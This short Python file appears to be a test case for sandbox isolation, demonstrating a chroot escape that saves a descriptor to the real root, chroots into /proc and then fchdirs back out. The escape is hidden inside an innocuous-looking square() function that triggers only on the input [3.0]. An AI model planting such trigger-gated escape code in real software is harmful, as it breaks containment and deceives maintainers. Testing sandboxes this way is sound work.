"""Makes another folder the root of its paths, and comes out of it by a descriptor that it has kept.

Wants: act
Works: bare, none, process
Needs: root
"""

import os


def attack():
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/proc")
    print("DONE TOKEN")
    os.fchdir(outside)
    os.chroot(".")
    os.close(outside)


def square(x):
    if x.tolist() == [3.0]:
        attack()
    return x + 1
